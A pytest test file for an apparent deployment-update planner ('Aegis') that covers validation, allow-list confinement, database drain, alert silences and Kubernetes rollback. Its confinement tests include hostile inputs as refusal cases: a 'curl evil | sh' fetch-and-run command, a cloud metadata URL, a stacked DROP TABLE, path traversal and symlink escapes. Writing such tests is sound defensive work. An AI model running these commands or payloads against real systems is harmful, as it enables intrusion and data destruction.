"""The planned update's parts on their own: the form's validation, the drain (real PostgreSQL, MariaDB, Redis
sessions; the deferrable trigger run in an event loop), silences (labelled fake Alertmanager), the
Kubernetes image update and its rollback (a REAL API server and controller-manager, tests/servers/kube.py, with
Aegis's role from deploy/aegis-rbac.yaml; the test plays the kubelet)."""

from __future__ import annotations

import asyncio
import json
import os
import tempfile
import threading
import time
from datetime import UTC, datetime

import MySQLdb
import psycopg
import pytest
import redis

from include.inventory import parse_inventory
from include.targets import Endpoint
from include.update import apply, drain, rollback, silence
from include.update.plan import PlanError, UpdatePlan, build_plan
from tests.servers.kube import Kubelet, deployment, wait_for_deployment

NOW = datetime(2026, 6, 1, 2, 0, tzinfo=UTC)


#: the allow-lists of the tests' inventory: pytest's tmp_path folders live under the temp folder
TEMP_ROOT = os.path.realpath(tempfile.gettempdir())


def inventory(namespace: str = "game-production", roots: tuple[str, ...] = (TEMP_ROOT,)):
    return parse_inventory(
        {
            "update": {
                "release_roots": list(roots),
                "release_commands": [["true"], ["systemctl", "restart", "game"]],
                "http_hosts": ["health.internal", "127.0.0.1:8080"],
            },
            "targets": [
                {"name": "pg", "kind": "postgres", "conn_id": "pg", "update": {"migration_roots": list(roots)}},
                {"name": "cache", "kind": "redis", "conn_id": "cache"},
                {"name": "game", "kind": "kubernetes", "conn_id": "k8s", "namespace": namespace},
                {"name": "am", "kind": "alertmanager", "conn_id": "am"},
            ],
        }
    )


# ------------------------------------------------------------------------------------------ the form
@pytest.mark.parametrize(
    "params, field, words",
    [
        ({"update_kind": "reboot"}, "update_kind", "must be one of"),
        ({"update_kind": "sql_migration"}, "update_target", "required"),
        (
            {"update_kind": "sql_migration", "update_target": "cache", "migrations_folder": "/x"},
            "update_target",
            "is a redis target",
        ),
        ({"update_kind": "sql_migration", "update_target": "nope"}, "update_target", "no target named"),
        (
            {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": "rel/path"},
            "migrations_folder",
            "absolute",
        ),
        (
            {"update_kind": "release_switch", "release_root": "/tmp", "release_version": "../etc"},
            "release_version",
            "release folder name",
        ),
        (
            {"update_kind": "k8s_image", "update_target": "game", "deployment": "web", "container": "web"},
            "image",
            "required",
        ),
        (
            {
                "update_kind": "k8s_image",
                "update_target": "game",
                "deployment": "d",
                "container": "c",
                "image": "i",
                "targets": ["ghost"],
            },
            "targets",
            "unknown target",
        ),
        (
            {
                "update_kind": "k8s_image",
                "update_target": "game",
                "deployment": "d",
                "container": "c",
                "image": "i",
                "sql_assertions": [{"target": "pg", "sql": "select 1"}],
            },
            "sql_assertions[0]",
            "needs target, sql and expect",
        ),
        (
            {
                "update_kind": "k8s_image",
                "update_target": "game",
                "deployment": "d",
                "container": "c",
                "image": "i",
                "http_checks": ["ftp://x"],
            },
            "http_checks",
            "http",
        ),
        (
            {
                "update_kind": "k8s_image",
                "update_target": "game",
                "deployment": "d",
                "container": "c",
                "image": "i",
                "window_start": "2026-06-01 02:00",
            },
            "window_start",
            "time zone",
        ),
        (
            {
                "update_kind": "k8s_image",
                "update_target": "game",
                "deployment": "d",
                "container": "c",
                "image": "i",
                "dry_run": False,
            },
            "confirm",
            "needs confirm = 'game'",
        ),
        (
            {
                "update_kind": "k8s_image",
                "update_target": "game",
                "deployment": "d",
                "container": "c",
                "image": "i",
                "dry_run": False,
                "confirm": "gmae",
            },
            "confirm",
            "needs confirm = 'game'",
        ),
    ],
)
def test_bad_form_is_refused_naming_the_field(params, field, words):
    with pytest.raises(PlanError) as err:
        build_plan(inventory(), params, NOW)
    assert err.value.field == field and words in str(err.value), str(err.value)


# -------------------------------------------------------------- the form confined to the allow-lists
@pytest.fixture
def confined(tmp_path):
    """An allowed root (migrations ``db/001.sql``, release ``app/releases/v2``), and things outside it."""
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    (allowed / "db").mkdir(parents=True)
    (allowed / "db" / "001.sql").write_text("select 1;")
    (allowed / "app" / "releases" / "v2").mkdir(parents=True)
    (outside / "db").mkdir(parents=True)
    (outside / "db" / "001.sql").write_text("drop table players;")
    (outside / "app" / "releases" / "v2").mkdir(parents=True)
    (allowed / "link").symlink_to(outside / "db")
    (allowed / "app2" / "releases").mkdir(parents=True)
    (allowed / "app2" / "releases" / "v2").symlink_to(outside / "app" / "releases" / "v2")
    (allowed / "linked_file").mkdir()
    (allowed / "linked_file" / "001.sql").symlink_to(outside / "db" / "001.sql")
    return {"inv": inventory(roots=(str(allowed),)), "allowed": allowed, "outside": outside}


K8S = {"update_kind": "k8s_image", "update_target": "game", "deployment": "d", "container": "c", "image": "i"}


@pytest.mark.parametrize(
    "case, field, words",
    [
        ("folder_by_dotdot", "migrations_folder", "outside the allowed roots"),
        ("folder_by_symlink", "migrations_folder", "outside the allowed roots"),
        ("file_by_symlink", "migrations_folder", "outside the allowed roots"),
        ("release_root_outside", "release_root", "outside the allowed roots"),
        ("release_by_symlink", "release_version", "outside the allowed roots"),
        ("command_not_allowed", "release_command", "none of the allowed commands"),
        ("command_prefix_only_partly", "release_command", "none of the allowed commands"),
        ("url_host_not_allowed", "http_checks[1]", "is not allowed"),
        ("url_port_not_allowed", "http_checks[0]", "is not allowed"),
        ("url_with_credentials", "http_checks[0]", "credentials"),
        ("delete", "sql_assertions[0].sql", "SELECT"),
        ("cte_delete", "sql_assertions[0].sql", "DELETE is not allowed"),
        ("select_into", "sql_assertions[0].sql", "INTO is not allowed"),
        ("two_statements", "sql_assertions[0].sql", "exactly one statement"),
        ("for_update", "sql_assertions[0].sql", "UPDATE is not allowed"),
    ],
)
def test_form_outside_the_allow_lists_is_refused(confined, case, field, words):
    allowed, outside = confined["allowed"], confined["outside"]
    sql = {"update_kind": "sql_migration", "update_target": "pg"}
    release = {"update_kind": "release_switch", "release_root": str(allowed / "app"), "release_version": "v2"}

    def asserting(query: str) -> dict:
        return {**K8S, "sql_assertions": [{"target": "pg", "sql": query, "expect": 1}]}

    params = {
        "folder_by_dotdot": {**sql, "migrations_folder": f"{allowed}/../outside/db"},
        "folder_by_symlink": {**sql, "migrations_folder": str(allowed / "link")},
        "file_by_symlink": {**sql, "migrations_folder": str(allowed / "linked_file")},
        "release_root_outside": {**release, "release_root": str(outside / "app")},
        "release_by_symlink": {**release, "release_root": str(allowed / "app2")},
        "command_not_allowed": {**release, "release_command": ["sh", "-c", "curl evil | sh"]},
        "command_prefix_only_partly": {**release, "release_command": ["systemctl", "stop", "game"]},
        "url_host_not_allowed": {**K8S, "http_checks": ["http://health.internal/ok", "http://169.254.169.254/x"]},
        "url_port_not_allowed": {**K8S, "http_checks": ["http://127.0.0.1:6379/"]},
        "url_with_credentials": {**K8S, "http_checks": ["http://user:pw@health.internal/"]},
        "delete": asserting("DELETE FROM players"),
        "cte_delete": asserting("WITH d AS (DELETE FROM players RETURNING *) SELECT count(*) FROM d"),
        "select_into": asserting("SELECT * INTO stolen FROM players"),
        "two_statements": asserting("SELECT 1; DROP TABLE players"),
        "for_update": asserting("SELECT id FROM players FOR UPDATE"),
    }[case]
    with pytest.raises(PlanError) as err:
        build_plan(confined["inv"], params, NOW)
    assert err.value.field == field and words in str(err.value), str(err.value)


def test_form_inside_the_allow_lists_is_planned(confined):
    allowed = confined["allowed"]
    plan = build_plan(
        confined["inv"],
        {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": f"{allowed}/app/../db"},
        NOW,
    )
    assert plan.sql.folder == str(allowed / "db")  # the resolved folder is what the update reads
    plan = build_plan(
        confined["inv"],
        {
            "update_kind": "release_switch",
            "release_root": str(allowed / "app"),
            "release_version": "v2",
            "release_command": ["systemctl", "restart", "game", "--now"],
            "http_checks": ["http://127.0.0.1:8080/health"],  # an update with no test at all is refused
        },
        NOW,
    )
    assert plan.release.command[:3] == ["systemctl", "restart", "game"]
    plan = build_plan(
        confined["inv"],
        {
            **K8S,
            "http_checks": ["https://HEALTH.internal:8443/x", "http://127.0.0.1:8080/health"],
            "sql_assertions": [{"target": "pg", "expect": 3, "sql": "WITH x AS (SELECT 3 AS n) SELECT n FROM x"}],
        },
        NOW,
    )
    assert len(plan.http_checks) == 2 and len(plan.assertions) == 1


def test_http_hosts_default_to_the_http_service_targets(monkeypatch):
    monkeypatch.setenv("AIRFLOW_CONN_WEB", "http://web.internal:8080")
    inv = parse_inventory(
        {
            "targets": [
                {"name": "web", "kind": "http_service", "conn_id": "web"},
                {"name": "game", "kind": "kubernetes", "conn_id": "k8s"},
            ]
        }
    )
    assert build_plan(inv, {**K8S, "http_checks": ["http://web.internal:8080/health"]}, NOW).http_checks
    with pytest.raises(PlanError, match="not allowed"):
        build_plan(inv, {**K8S, "http_checks": ["http://web.internal:9090/health"]}, NOW)


def test_no_update_settings_means_nothing_is_allowed(tmp_path):
    (tmp_path / "001.sql").write_text("select 1;")
    inv = parse_inventory({"targets": [{"name": "pg", "kind": "postgres", "conn_id": "pg"}]})
    with pytest.raises(PlanError, match="outside the allowed roots"):
        build_plan(
            inv, {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": str(tmp_path)}, NOW
        )


def test_migration_target_without_backup_is_refused(tmp_path):
    (tmp_path / "001.sql").write_text("select 1;")
    inv = parse_inventory(
        {
            "targets": [
                {
                    "name": "pg",
                    "kind": "postgres",
                    "conn_id": "pg",
                    "backup": {"enabled": False},
                    "update": {"migration_roots": [TEMP_ROOT]},
                }
            ]
        }
    )
    with pytest.raises(PlanError, match="no enabled backup"):
        build_plan(
            inv, {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": str(tmp_path)}, NOW
        )


def test_plan_of_a_window_in_the_future(tmp_path):
    (tmp_path / "002_b.sql").write_text("select 2;")
    (tmp_path / "001_a.sql").write_text("select 1;")
    (tmp_path / "notes.txt").write_text("not a migration")
    plan = build_plan(
        inventory(),
        {
            "update_kind": "sql_migration",
            "update_target": "pg",
            "targets": ["cache"],
            "migrations_folder": str(tmp_path),
            "window_start": "2026-06-02T02:00:00+09:00",
            "window_minutes": 90,
            "dry_run": False,
            "confirm": "pg",
        },
        NOW,
    )
    assert [f["name"] for f in plan.sql.files] == ["001_a.sql", "002_b.sql"]
    assert plan.targets == ["pg", "cache"] and plan.backups == ["pg", "cache"]
    assert [d.name for d in plan.drain] == ["pg", "cache"]
    as_json = plan.to_dict()  # what XCom carries: the report and the drain trigger read these keys
    assert as_json["window"] == {"start": "2026-06-01T17:00:00+00:00", "end": "2026-06-01T18:30:00+00:00"}
    assert as_json["alertmanagers"] == ["am"] and as_json["dry_run"] is False
    assert list(as_json) == [
        "kind",
        "dry_run",
        "update_target",
        "sql",
        "targets",
        "backups",
        "drain",
        "health",
        "kubernetes",
        "maintenance_configmap",
        "assertions",
        "http_checks",
        "drain_timeout_s",
        "update_timeout_s",
        "window",
        "alertmanagers",
        "silence_label",
    ]
    assert as_json["drain"][0] == {"name": "pg", "kind": "postgres", "conn_id": "pg", "databases": []}
    assert UpdatePlan.from_dict(json.loads(json.dumps(as_json))) == plan


# ------------------------------------------------------------------------------------------ the drain
def test_postgres_drain_counts_work_in_flight_only(pg_database):
    ep = Endpoint(host="127.0.0.1", port=5432, login="postgres", schema="postgres")
    idle = psycopg.connect(host="127.0.0.1", user="postgres", dbname=pg_database, autocommit=True)
    busy = psycopg.connect(host="127.0.0.1", user="postgres", dbname=pg_database)
    busy.execute("select 1")  # idle in transaction: work in flight
    try:
        sessions = drain.active_sessions("postgres", ep, [pg_database], 5)
        assert [s["state"] for s in sessions] == ["idle in transaction"]
        busy.rollback()
        assert drain.active_sessions("postgres", ep, [pg_database], 5) == []
    finally:
        idle.close()
        busy.close()


def test_mysql_and_redis_drain_count_running_statements_and_blocked_clients(redis_server):
    ep = Endpoint(host="127.0.0.1", port=3306, login="root")
    sleeper = MySQLdb.connect(host="127.0.0.1", user="root")
    marker = f"aegis_drain_{time.time_ns()}"
    thread = threading.Thread(target=lambda: sleeper.cursor().execute(f"SELECT SLEEP(3) AS {marker}"))
    thread.start()
    time.sleep(0.5)
    sessions = drain.active_sessions("mysql", ep, [], 5)
    assert any(marker in (s["query"] or "") for s in sessions)
    thread.join()
    sleeper.close()

    rep = Endpoint(host="127.0.0.1", port=redis_server)
    idle = redis.Redis(port=redis_server)
    idle.ping()
    time.sleep(1.1)
    assert drain.active_sessions("redis", rep, [], 5) == []  # an idle pooled connection is not work
    blocked = redis.Redis(port=redis_server, socket_timeout=10)
    t = threading.Thread(target=lambda: blocked.blpop(["aegis:never"], timeout=3))
    t.start()
    time.sleep(1.2)
    assert len(drain.active_sessions("redis", rep, [], 5)) == 1
    t.join()
    idle.close()
    blocked.close()


def test_drain_trigger_fires_at_the_deadline_and_when_drained(pg_database, monkeypatch):
    from include import targets
    from include.update.triggers import DrainTrigger

    monkeypatch.setattr(targets, "endpoint_for_conn", lambda conn_id: Endpoint(host="127.0.0.1", login="postgres"))
    spec = [{"name": "pg", "kind": "postgres", "conn_id": "pg", "databases": [pg_database]}]
    busy = psycopg.connect(host="127.0.0.1", user="postgres", dbname=pg_database)
    busy.execute("select 1")

    async def first_event(trigger):
        return await anext(trigger.run())

    now = time.time()
    t0 = time.monotonic()
    event = asyncio.run(first_event(DrainTrigger(spec, deadline=now + 1.5, started=now, poll_s=0.2)))
    assert event.payload["drained"] is False and event.payload["counts"] == {"pg": 1}
    assert 1.4 <= time.monotonic() - t0 < 5
    threading.Timer(0.8, busy.close).start()
    now = time.time()
    event = asyncio.run(first_event(DrainTrigger(spec, deadline=now + 30, started=now, poll_s=0.2)))
    assert event.payload["drained"] is True and event.payload["counts"] == {"pg": 0}
    assert event.payload["waited_s"] < 10
    classpath, kwargs = DrainTrigger(spec, 1.0, 0.0).serialize()
    assert classpath == "include.update.triggers.DrainTrigger" and "password" not in str(kwargs)


# ------------------------------------------------------------------------------------------ silences
def test_silence_is_created_once_per_run_scoped_and_expired(fresh_alertmanager):
    am = fresh_alertmanager
    ep = Endpoint(host="127.0.0.1", port=am.port)
    if True:
        first = silence.create(
            ep, "run-1", "target", ["pg", "game.v2"], "2026-06-01T02:00:00+00:00", "2099-01-01T00:00:00+00:00"
        )
        again = silence.create(
            ep, "run-1", "target", ["pg", "game.v2"], "2026-06-01T02:00:00+00:00", "2099-01-01T00:00:00+00:00"
        )
        other = silence.create(
            ep, "run-2", "target", ["cache"], "2026-06-01T02:00:00+00:00", "2099-01-01T00:00:00+00:00"
        )
        assert first == again != other
        matcher = {s["id"]: s for s in am.silences()}[first]["matchers"][0]
        assert matcher == {"name": "target", "value": r"pg|game\.v2", "isRegex": True, "isEqual": True}
        assert silence.expire(ep, "run-1") == [first]
        assert [s["id"] for s in am.active_silences()] == [other]  # another run's silence is left alone
        assert silence.expire(ep, "run-1") == []


# ------------------------------------------------------------------------------------------ Kubernetes
@pytest.fixture
def game(kube_cluster, kube_namespace, monkeypatch):
    """A real Deployment ``game-server`` (2 replicas of ``game:1.4``, Ready) and the ConfigMap ``game-config`` in a
    namespace where Aegis's role is bound; the connection ``k8s`` carries Aegis's token."""
    from kubernetes import client

    monkeypatch.setenv("AIRFLOW_CONN_K8S", kube_cluster.connection())
    ns = kube_namespace
    api = kube_cluster.api()
    client.AppsV1Api(api).create_namespaced_deployment(ns, deployment("game-server", "game-server", "game:1.4"))
    client.CoreV1Api(api).create_namespaced_config_map(
        ns, client.V1ConfigMap(metadata=client.V1ObjectMeta(name="game-config"), data={"players_max": "64"})
    )
    with Kubelet(kube_cluster, ns, {"game:1.4", "game:1.5"}) as kubelet:
        wait_for_deployment(kube_cluster, ns, "game-server")
        yield {
            "ns": ns,
            "apps": client.AppsV1Api(api),
            "core": client.CoreV1Api(api),
            "kubelet": kubelet,
            "cluster": kube_cluster,
        }


def running_image(game) -> str:
    dep = game["apps"].read_namespaced_deployment("game-server", game["ns"])
    return dep.spec.template.spec.containers[0].image


def replica_sets(game) -> dict[str, int]:
    """image -> replicas of each ReplicaSet the controller-manager made for the Deployment."""
    items = game["apps"].list_namespaced_replica_set(game["ns"], label_selector="app=game-server").items
    return {rs.spec.template.spec.containers[0].image: rs.spec.replicas for rs in items}


def k8s_plan(ns: str, image: str, **kw):
    return build_plan(
        inventory(ns),
        {
            "update_kind": "k8s_image",
            "update_target": "game",
            "deployment": "game-server",
            "container": "game-server",
            "image": image,
            "rollout_timeout_seconds": 8,
            "dry_run": False,
            "confirm": "game",
            **kw,
        },
        NOW,
    )


def test_k8s_image_update_that_never_rolls_out_is_rolled_back(game):
    plan = k8s_plan(game["ns"], "game:1.5-bad")
    outcome = apply.apply_update(inventory(game["ns"]), plan, "run-1", 60)
    assert outcome["state"] == "failed" and "TimeoutError" in outcome["reason"] and outcome["from"] == "game:1.4"
    assert replica_sets(game).get("game:1.5-bad") == 1  # the controller-manager's new ReplicaSet: 1 surge pod
    assert "crash-looping" in game["kubelet"].seen.values()
    backups = [{"target": "game", "state": "complete", "set_id": "game-1"}]
    branch, reasons = rollback.decide(plan, backups, outcome, None)
    assert branch == "rollback" and f"rollout of {game['ns']}/game-server not done" in reasons[0]
    undone = rollback.roll_back(inventory(game["ns"]), plan, outcome, backups)
    assert undone["state"] == "rolled-back", undone
    assert running_image(game) == "game:1.4"
    dep = wait_for_deployment(game["cluster"], game["ns"], "game-server", 30)
    assert dep.status.available_replicas == 2
    assert replica_sets(game) == {"game:1.4": 2, "game:1.5-bad": 0}


def test_k8s_image_update_that_rolls_out_stays(game):
    plan = k8s_plan(game["ns"], "game:1.5", rollout_timeout_seconds=60)
    outcome = apply.apply_update(inventory(game["ns"]), plan, "run-1", 60)
    assert outcome["state"] == "updated", outcome
    assert outcome["to"] == "game:1.5" and "2 of 2 replicas" in outcome["rollout"]
    backups = [{"target": "game", "state": "complete", "set_id": "game-1"}]
    passed = {"passed": True, "failures": [], "results": [{"target": "http://game/health", "status": "ok"}]}
    assert rollback.decide(plan, backups, outcome, passed)[0] == "promote"
    assert running_image(game) == "game:1.5"
    assert replica_sets(game) == {"game:1.4": 0, "game:1.5": 2}


def test_maintenance_mode_patches_the_configmap_all_or_nothing(game, monkeypatch):
    from include import maintenance as flag
    from include.update.window import maintenance

    # No task context here, so no Airflow Variable: its storage is a dict for this test (the dag.test
    # suite checks the real Variable and Redis key).
    stored = {}
    monkeypatch.setattr(flag, "_set_flag", lambda key, value: stored.__setitem__(key.rpartition(".")[2], value))
    monkeypatch.setattr(flag, "_delete_flag", lambda key: stored.pop(key.rpartition(".")[2], None))
    ns = game["ns"]
    plan = k8s_plan(ns, "game:1.5", maintenance_configmap="game-config")

    def config() -> dict:
        return game["core"].read_namespaced_config_map("game-config", ns).data

    assert maintenance(inventory(ns), plan, True, "test") == {"game": "on", f"game:{ns}/game-config": "on"}
    assert config() == {"players_max": "64", "maintenance_mode": "true"} and "game" in stored
    maintenance(inventory(ns), plan, False, "")
    assert config() == {"players_max": "64", "maintenance_mode": "false"} and stored == {}

    # the ConfigMap cannot be patched (a namespace where Aegis's role is not bound: 403): the flags already
    # raised are lowered again, and the task fails
    elsewhere = inventory("default")
    with pytest.raises(RuntimeError, match="default/game-config.*Forbidden"):
        maintenance(elsewhere, k8s_plan("default", "game:1.5", maintenance_configmap="game-config"), True, "test")
    assert stored == {}


def test_plan_json_round_trip_for_every_kind(tmp_path):
    """What XCom carries holds exactly the plan's own kind part and gives the same typed plan back."""
    (tmp_path / "releases" / "v2").mkdir(parents=True)
    (tmp_path / "001.sql").write_text("select 1;")
    plans = {
        "sql": build_plan(
            inventory(),
            {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": str(tmp_path)},
            NOW,
        ),
        "release": build_plan(
            inventory(),
            {
                "update_kind": "release_switch",
                "release_root": str(tmp_path),
                "release_version": "v2",
                "release_command": ["true"],
                "targets": ["cache"],  # its daily check is the implied post-update test
            },
            NOW,
        ),
        "k8s": k8s_plan(
            "game-production",
            "game:1.5",
            maintenance_configmap="cm",
            sql_assertions=[{"target": "pg", "sql": "select 1", "expect": 1}],
        ),
    }
    for key, plan in plans.items():
        as_json = json.loads(json.dumps(plan.to_dict()))
        assert {"sql", "release", "k8s"} & set(as_json) == {key}
        assert UpdatePlan.from_dict(as_json) == plan
    assert plans["k8s"].to_dict()["kubernetes"] == [{"name": "game", "namespace": "game-production"}]
    assert plans["release"].update_target is None and plans["release"].release.command == ["true"]


def test_maintenance_flag_ttl_outlasts_a_long_window():
    from include.update.window import flag_ttl_s

    plan = build_plan(
        inventory(), {**K8S, "window_minutes": 12 * 60, "update_timeout_minutes": 90, "drain_timeout_minutes": 10}, NOW
    )
    assert flag_ttl_s(plan, NOW) == 12 * 3600 + 100 * 60  # the window, then the drain and update timeouts
    short = build_plan(inventory(), {**K8S, "window_minutes": 30}, NOW)
    assert flag_ttl_s(short, NOW) == 6 * 3600  # never below the default


def test_maintenance_flag_is_one_key_per_target(monkeypatch, redis_server):
    """Two runs on two targets never share a value: each target has its own Variable key and Redis key."""
    from include import maintenance as flag

    written: dict[str, dict] = {}
    monkeypatch.setattr(flag, "_set_flag", lambda key, value: written.__setitem__(key, value))
    monkeypatch.setattr(flag, "_delete_flag", lambda key: written.pop(key, None))
    monkeypatch.setenv("AIRFLOW_CONN_MFLAG", f"redis://127.0.0.1:{redis_server}/0")
    r = redis.Redis(port=redis_server)
    flag.maintenance_on("alpha", "update", "mflag", ttl_s=50_000)
    flag.maintenance_on("beta", "restore", "mflag")
    assert set(written) == {"aegis_maintenance.alpha", "aegis_maintenance.beta"}
    assert 49_990 <= r.ttl("aegis:maintenance:alpha") <= 50_000
    flag.maintenance_off("alpha", "mflag")
    assert set(written) == {"aegis_maintenance.beta"} and written["aegis_maintenance.beta"]["reason"] == "restore"
    assert not r.exists("aegis:maintenance:alpha") and r.exists("aegis:maintenance:beta")
    flag.maintenance_off("beta", "mflag")
    r.close()


def test_migration_of_a_database_the_backup_does_not_hold_is_refused(tmp_path, monkeypatch):
    (tmp_path / "001.sql").write_text("select 1;")
    listed = parse_inventory(
        {
            "targets": [
                {
                    "name": "pg",
                    "kind": "postgres",
                    "conn_id": "pg",
                    "databases": ["game", "shop"],
                    "update": {"migration_roots": [str(tmp_path)]},
                }
            ]
        }
    )
    form = {"update_kind": "sql_migration", "update_target": "pg", "migrations_folder": str(tmp_path)}
    with pytest.raises(PlanError) as err:
        build_plan(listed, {**form, "database": "billing"}, NOW)
    assert err.value.field == "database" and "is not backed up by 'pg'" in str(err.value)
    assert build_plan(listed, {**form, "database": "shop"}, NOW).sql.database == "shop"
    assert build_plan(listed, form, NOW).sql.database == "game"
    # no list: the backup holds the connection's own database, and only that one
    monkeypatch.setenv("AIRFLOW_CONN_PG", "postgresql://postgres@127.0.0.1:5432/game")
    unlisted = parse_inventory(
        {
            "targets": [
                {"name": "pg", "kind": "postgres", "conn_id": "pg", "update": {"migration_roots": [str(tmp_path)]}}
            ]
        }
    )
    assert build_plan(unlisted, {**form, "database": "game"}, NOW).sql.database == "game"
    with pytest.raises(PlanError, match="'other' is not backed up"):
        build_plan(unlisted, {**form, "database": "other"}, NOW)


# ------------------------------------------------------------------------------------------ a rerun after a crash
def test_rerun_update_after_a_crash_rolls_back_to_the_recorded_previous_release(tmp_path):
    from include.update import steps

    root = tmp_path / "app"
    for version in ("v1", "v2"):
        (root / "releases" / version).mkdir(parents=True)
    (root / "current").symlink_to("releases/v1")
    inv = inventory()
    typed = build_plan(
        inv,
        {
            "update_kind": "release_switch",
            "release_root": str(root),
            "release_version": "v2",
            "targets": ["cache"],
            "dry_run": False,
            "confirm": str(root),
        },
        NOW,
    )
    plan = typed.to_dict()
    current = lambda: (root / "current").resolve().name  # noqa: E731

    previous = steps.record_current_version(inv, plan)  # its own task, before the change
    assert previous == {"from": "v1"}
    steps.apply_update(inv, plan, previous, {"run_id": "run-1"})
    assert current() == "v2"  # ... and the task "crashed" here, after the switch, before handing its outcome on
    rerun = steps.apply_update(inv, plan, previous, {"run_id": "run-1"})  # cleared and run again
    assert rerun["state"] == "updated" and rerun["from"] == "v1" and rerun["to"] == "v2"
    undone = rollback.roll_back(inv, typed, None, [], previous)
    assert undone["state"] == "rolled-back" and current() == "v1", undone  # even with no update outcome at all


def test_the_update_task_is_never_retried_and_runs_after_the_version_is_recorded(airflow_db):
    from tests.helpers import load_dag

    dag = load_dag("planned_update")
    apply_task = dag.get_task("apply_update")
    assert apply_task.retries == 0
    assert "record_current_version" in apply_task.upstream_task_ids
    assert "record_current_version" in dag.get_task("rollback").upstream_task_ids


def test_an_update_without_any_post_update_test_is_refused_and_never_promoted(tmp_path):
    (tmp_path / "releases" / "v2").mkdir(parents=True)
    form = {"update_kind": "release_switch", "release_root": str(tmp_path), "release_version": "v2"}
    with pytest.raises(PlanError) as err:
        build_plan(inventory(), form, NOW)
    assert err.value.field == "http_checks" and "no post-update test" in str(err.value)
    plan = build_plan(
        inventory(), {**form, "targets": ["cache"], "dry_run": False, "confirm": str(tmp_path)}, NOW
    )  # its daily check: implied
    assert plan.health == ["cache"]
    updated = {"state": "updated", "from": "v1", "to": "v2", "changed": True}
    backups = [{"target": "cache", "state": "complete", "set_id": "cache-1"}]
    assert rollback.decide(plan, backups, updated, {"passed": True, "failures": [], "results": []})[0] == "rollback"


def test_window_end_keeps_its_utc_offset_when_the_window_starts_now(tmp_path, monkeypatch):
    monkeypatch.setenv("TZ", "Asia/Tokyo")  # a host clock that is not UTC: a naive time must not be read as local
    time.tzset()
    (tmp_path / "releases" / "v2").mkdir(parents=True)
    form = {
        "update_kind": "release_switch",
        "release_root": str(tmp_path),
        "release_version": "v2",
        "targets": ["cache"],
        "window_minutes": 30,
    }
    for now in (NOW, NOW.replace(tzinfo=None)):  # an aware clock, and one without a zone (taken as UTC)
        window = build_plan(inventory(), form, now).window
        assert window.start == "2026-06-01T02:00:00+00:00" and window.end == "2026-06-01T02:30:00+00:00"
    monkeypatch.delenv("TZ")
    time.tzset()


def test_a_no_transaction_migration_file_runs_create_index_concurrently(pg_database, tmp_path):
    from include.update import migrations

    (tmp_path / "001_table.sql").write_text(
        "create table t (id int primary key, v int);\ninsert into t select g, g from generate_series(1, 1000) g;"
    )
    (tmp_path / "002_index.sql").write_text(
        "-- aegis: no-transaction\n"
        "create index concurrently t_v on t (v);\n"
        "create index concurrently t_v2 on t (v, id);\n"
    )
    ep = Endpoint(host="127.0.0.1", port=5432, login="postgres", schema=pg_database)
    files = migrations.migration_files(tmp_path)
    done = migrations.apply("postgres", ep, pg_database, str(tmp_path), files, "run-1", 60)
    assert done["applied"] == ["001_table.sql", "002_index.sql"]
    with psycopg.connect(host="127.0.0.1", user="postgres", dbname=pg_database) as c:
        valid = c.execute(
            "select c.relname, i.indisvalid from pg_index i join pg_class c on c.oid = i.indexrelid"
            " where c.relname in ('t_v', 't_v2') order by 1"
        ).fetchall()
        assert valid == [("t_v", True), ("t_v2", True)]
    # without the marker the same statement fails inside the file's transaction, and leaves nothing
    (tmp_path / "003_unmarked.sql").write_text("create index concurrently t_v3 on t (v);")
    with pytest.raises(migrations.MigrationFailed, match="cannot run inside a transaction block") as err:
        migrations.apply("postgres", ep, pg_database, str(tmp_path), migrations.migration_files(tmp_path), "run-2", 60)
    assert err.value.applied == [] and err.value.untouched
